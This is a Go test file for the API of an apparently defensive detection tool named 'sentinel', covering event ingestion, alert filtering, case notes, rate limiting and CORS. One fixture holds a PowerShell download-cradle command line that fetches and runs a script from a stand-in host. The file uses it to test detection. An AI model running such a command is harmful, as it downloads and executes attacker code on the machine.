package api

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"sentinel/config"
	"sentinel/core"
	"sentinel/detect"
	"sentinel/notify"
	"sentinel/service"
	"sentinel/storage"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"
)

const (
	cradleEvent = `{"id":"evt-1","timestamp":"2026-03-01T12:00:00Z",
		"image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		"command_line":"powershell.exe -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil-c2.io/p.ps1')\"",
		"parent_image":"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
		"process_id":4242,"parent_process_id":1337,"user":"CORP\\J.Harkness","host":"SEC-WKSTN-01"}`
	benignEvent = `{"id":"evt-2","image":"C:\\Windows\\System32\\cmd.exe","command_line":"cmd.exe /c echo \"Safe check\"","host":"SEC-WKSTN-02"}`
	seedNote    = "Case initialized after detection of PowerShell download cradle."
)

type testServer struct {
	api    *API
	engine *detect.Engine
	store  *service.CaseStore
	repo   *storage.MemoryRepository
	bus    *notify.Bus
}

func testAPIConfig() config.APIConfig {
	return config.APIConfig{
		AllowedOrigins: []string{"http://localhost:3000"},
		RateLimit:      config.RateLimitConfig{RequestsPerSecond: 1000, Burst: 1000},
		MaxBodyBytes:   16 * 1024,
	}
}

func newTestServer(t *testing.T, cfg config.APIConfig) *testServer {
	t.Helper()
	logger := zaptest.NewLogger(t).Sugar()

	bus := notify.NewBus(logger, time.Second)
	repo := storage.NewMemoryRepository()
	store, err := service.OpenCaseStore(context.Background(), repo, bus, service.CaseStoreConfig{
		Analyst:      "J. Harkness",
		SeedNote:     seedNote,
		RetryBackoff: time.Millisecond,
	}, logger)
	require.NoError(t, err)

	rules, err := detect.DefaultRuleSet(detect.RuleSetOptions{})
	require.NoError(t, err)
	engine, err := detect.NewEngine(rules, store, bus, detect.EngineConfig{BufferSize: 10, Source: "api"}, logger)
	require.NoError(t, err)

	hub := NewHub(context.Background(), bus, 1, logger)
	hub.Start()
	t.Cleanup(hub.Stop)

	a := NewAPI(engine, store, hub, cfg, logger)
	t.Cleanup(func() { _ = a.Stop(context.Background()) })

	return &testServer{api: a, engine: engine, store: store, repo: repo, bus: bus}
}

func (s *testServer) do(t *testing.T, method, path, body string) *httptest.ResponseRecorder {
	t.Helper()
	var req *http.Request
	if body == "" {
		req = httptest.NewRequest(method, path, nil)
	} else {
		req = httptest.NewRequest(method, path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
	}
	rr := httptest.NewRecorder()
	s.api.Handler().ServeHTTP(rr, req)
	return rr
}

func decode[T any](t *testing.T, rr *httptest.ResponseRecorder) T {
	t.Helper()
	var out T
	require.NoError(t, json.Unmarshal(rr.Body.Bytes(), &out), rr.Body.String())
	return out
}

func TestPostEvent_Accepted(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	rr := s.do(t, http.MethodPost, "/api/v1/events", cradleEvent)
	require.Equal(t, http.StatusAccepted, rr.Code, rr.Body.String())
	resp := decode[ingestResponse](t, rr)
	assert.Equal(t, "accepted", resp.Status)
	assert.Equal(t, "evt-1", resp.EventID)

	assert.Equal(t, 1, s.engine.BufferSize())
	assert.Len(t, s.store.ListAlerts(), 3)

	rr = s.do(t, http.MethodGet, "/api/v1/events", "")
	require.Equal(t, http.StatusOK, rr.Code)
	events := decode[[]core.ProcessEvent](t, rr)
	require.Len(t, events, 1)
	assert.Equal(t, "SEC-WKSTN-01", events[0].Host)
}

func TestPostEvent_Rejections(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	tests := []struct {
		name  string
		body  string
		code  int
		field string
	}{
		{"malformed", `{"id":`, http.StatusBadRequest, "event"},
		{"missing command line", `{"id":"e","image":"a.exe"}`, http.StatusBadRequest, "command_line"},
		{"too large", `{"id":"e","image":"a","command_line":"` + strings.Repeat("x", 20*1024) + `"}`, http.StatusRequestEntityTooLarge, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			rr := s.do(t, http.MethodPost, "/api/v1/events", tt.body)
			assert.Equal(t, tt.code, rr.Code)
			body := decode[errorResponse](t, rr)
			assert.Equal(t, tt.field, body.Field)
		})
	}
	assert.Equal(t, 0, s.engine.BufferSize())
}

func TestPostEvent_PersistenceFailure(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	s.repo.FailSaves(storage.CollectionAlerts, errors.New("disk full"))

	rr := s.do(t, http.MethodPost, "/api/v1/events", cradleEvent)
	assert.Equal(t, http.StatusServiceUnavailable, rr.Code)
	assert.Equal(t, 0, s.engine.BufferSize())
	assert.Empty(t, s.store.ListAlerts())
}

func TestPostEvent_RateLimited(t *testing.T) {
	cfg := testAPIConfig()
	cfg.RateLimit = config.RateLimitConfig{RequestsPerSecond: 0.001, Burst: 1}
	s := newTestServer(t, cfg)

	assert.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", benignEvent).Code)
	rr := s.do(t, http.MethodPost, "/api/v1/events", benignEvent)
	assert.Equal(t, http.StatusTooManyRequests, rr.Code)
	assert.Equal(t, "1", rr.Header().Get("Retry-After"))

	// Reads are not rate limited
	assert.Equal(t, http.StatusOK, s.do(t, http.MethodGet, "/api/v1/alerts", "").Code)
}

func TestGetAlerts_Filters(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	require.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", cradleEvent).Code)
	require.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", benignEvent).Code)

	tests := []struct {
		query string
		want  int
	}{
		{"", 3},
		{"?severity=critical", 1},
		{"?severity=HIGH,CRITICAL", 3},
		{"?severity=HIGH&severity=CRITICAL", 3},
		{"?min_severity=critical", 1},
		{"?status=NEW", 3},
		{"?status=ACK", 0},
		{"?host=SEC-WKSTN-02", 0},
		{"?search=office", 1},
		{"?limit=2", 2},
		{"?event_id=evt-1", 3},
	}
	for _, tt := range tests {
		t.Run(tt.query, func(t *testing.T) {
			rr := s.do(t, http.MethodGet, "/api/v1/alerts"+tt.query, "")
			require.Equal(t, http.StatusOK, rr.Code)
			assert.Len(t, decode[[]core.Alert](t, rr), tt.want)
		})
	}

	for _, bad := range []string{"?severity=urgent", "?min_severity=x", "?status=closed", "?limit=-1", "?limit=abc"} {
		assert.Equal(t, http.StatusBadRequest, s.do(t, http.MethodGet, "/api/v1/alerts"+bad, "").Code, bad)
	}
}

func TestAlertLookupAndAcknowledge(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	require.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", cradleEvent).Code)
	id := s.store.ListAlerts()[0].ID

	rr := s.do(t, http.MethodGet, "/api/v1/alerts/"+id, "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Equal(t, core.AlertStatusNew, decode[core.Alert](t, rr).Status)

	rr = s.do(t, http.MethodPost, "/api/v1/alerts/"+id+"/acknowledge", "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Equal(t, core.AlertStatusAcknowledged, decode[core.Alert](t, rr).Status)

	rr = s.do(t, http.MethodPost, "/api/v1/alerts/"+id+"/acknowledge", "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Equal(t, core.AlertStatusAcknowledged, decode[core.Alert](t, rr).Status)

	assert.Equal(t, http.StatusNotFound, s.do(t, http.MethodGet, "/api/v1/alerts/AL-missing", "").Code)
	assert.Equal(t, http.StatusNotFound, s.do(t, http.MethodPost, "/api/v1/alerts/AL-missing/acknowledge", "").Code)
}

func TestAlertSummary(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	require.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", cradleEvent).Code)

	rr := s.do(t, http.MethodGet, "/api/v1/alerts/summary", "")
	require.Equal(t, http.StatusOK, rr.Code)
	summary := decode[alertSummary](t, rr)
	assert.Equal(t, 3, summary.Alerts.Total)
	assert.Equal(t, 3, summary.Alerts.Open)
	assert.Equal(t, 1, summary.Alerts.BySeverity[core.SeverityCritical])
	assert.Equal(t, 2, summary.Alerts.BySeverity[core.SeverityHigh])
	assert.Equal(t, 1, summary.EventsBuffered)
	assert.Equal(t, 10, summary.BufferCapacity)
	assert.Equal(t, 5, summary.Rules)
}

func TestNotes(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	rr := s.do(t, http.MethodPost, "/api/v1/notes", `{"text":"Isolated host from network"}`)
	require.Equal(t, http.StatusCreated, rr.Code, rr.Body.String())
	note := decode[core.CaseNote](t, rr)
	assert.Equal(t, "J. Harkness", note.Author)
	assert.NotEmpty(t, note.ID)

	rr = s.do(t, http.MethodGet, "/api/v1/notes", "")
	require.Equal(t, http.StatusOK, rr.Code)
	notes := decode[[]core.CaseNote](t, rr)
	require.Len(t, notes, 2)
	assert.Equal(t, "Isolated host from network", notes[0].Text)
	assert.Equal(t, seedNote, notes[1].Text)

	rr = s.do(t, http.MethodPost, "/api/v1/notes", `{"text":"   "}`)
	assert.Equal(t, http.StatusBadRequest, rr.Code)
	assert.Equal(t, "text", decode[errorResponse](t, rr).Field)

	assert.Equal(t, http.StatusBadRequest, s.do(t, http.MethodPost, "/api/v1/notes", `{"body":"x"}`).Code)
	assert.Equal(t, http.StatusBadRequest, s.do(t, http.MethodPost, "/api/v1/notes", `{"text":`).Code)
	assert.Equal(t, http.StatusRequestEntityTooLarge,
		s.do(t, http.MethodPost, "/api/v1/notes", `{"text":"`+strings.Repeat("n", 20*1024)+`"}`).Code)
}

func TestArtifacts(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	rr := s.do(t, http.MethodPost, "/api/v1/artifacts", `{"name":"p.ps1","type":"file"}`)
	require.Equal(t, http.StatusCreated, rr.Code, rr.Body.String())
	artifact := decode[core.Artifact](t, rr)
	assert.Equal(t, "p.ps1", artifact.Name)
	assert.Equal(t, "file", artifact.Type)

	rr = s.do(t, http.MethodGet, "/api/v1/artifacts", "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Len(t, decode[[]core.Artifact](t, rr), 1)

	assert.Equal(t, http.StatusBadRequest, s.do(t, http.MethodPost, "/api/v1/artifacts", `{"name":"","type":"file"}`).Code)
}

func TestNotes_PersistenceFailure(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	s.repo.FailSaves(storage.CollectionNotes, errors.New("disk full"))

	rr := s.do(t, http.MethodPost, "/api/v1/notes", `{"text":"will not stick"}`)
	assert.Equal(t, http.StatusServiceUnavailable, rr.Code)
	assert.Len(t, s.store.ListNotes(), 1)
}

func TestGetRulesAndHealth(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	rr := s.do(t, http.MethodGet, "/api/v1/rules", "")
	require.Equal(t, http.StatusOK, rr.Code)
	rules := decode[[]detect.RuleInfo](t, rr)
	require.Len(t, rules, 5)
	assert.Equal(t, "Encoded PowerShell Command", rules[0].Name)
	assert.True(t, rules[4].OnlyIfUnalerted)

	rr = s.do(t, http.MethodGet, "/health", "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Equal(t, "ok", decode[healthResponse](t, rr).Status)

	rr = s.do(t, http.MethodGet, "/metrics", "")
	require.Equal(t, http.StatusOK, rr.Code)
	assert.Contains(t, rr.Body.String(), "sentinel_")
}

func TestCORS(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	req := httptest.NewRequest(http.MethodOptions, "/api/v1/notes", nil)
	req.Header.Set("Origin", "http://localhost:3000")
	req.Header.Set("Access-Control-Request-Method", "POST")
	rr := httptest.NewRecorder()
	s.api.Handler().ServeHTTP(rr, req)
	assert.Equal(t, http.StatusNoContent, rr.Code)
	assert.Equal(t, "http://localhost:3000", rr.Header().Get("Access-Control-Allow-Origin"))

	req = httptest.NewRequest(http.MethodGet, "/api/v1/alerts", nil)
	req.Header.Set("Origin", "http://evil.example")
	rr = httptest.NewRecorder()
	s.api.Handler().ServeHTTP(rr, req)
	assert.Equal(t, http.StatusOK, rr.Code)
	assert.Empty(t, rr.Header().Get("Access-Control-Allow-Origin"))
}

func TestSweepRateLimiters(t *testing.T) {
	s := newTestServer(t, testAPIConfig())
	require.Equal(t, http.StatusAccepted, s.do(t, http.MethodPost, "/api/v1/events", benignEvent).Code)

	s.api.rateLimitersMu.Lock()
	assert.Len(t, s.api.rateLimiters, 1)
	s.api.rateLimitersMu.Unlock()

	s.api.sweepRateLimiters(time.Now().Add(2 * limiterIdleTimeout))

	s.api.rateLimitersMu.Lock()
	defer s.api.rateLimitersMu.Unlock()
	assert.Empty(t, s.api.rateLimiters)
}

func TestStartStop(t *testing.T) {
	s := newTestServer(t, testAPIConfig())

	errCh := make(chan error, 1)
	go func() { errCh <- s.api.Start("127.0.0.1:0") }()

	require.Eventually(t, func() bool {
		s.api.serverMu.Lock()
		defer s.api.serverMu.Unlock()
		return s.api.server != nil
	}, 2*time.Second, 5*time.Millisecond)

	require.NoError(t, s.api.Stop(context.Background()))
	select {
	case err := <-errCh:
		assert.NoError(t, err)
	case <-time.After(2 * time.Second):
		t.Fatal("server did not stop")
	}
}
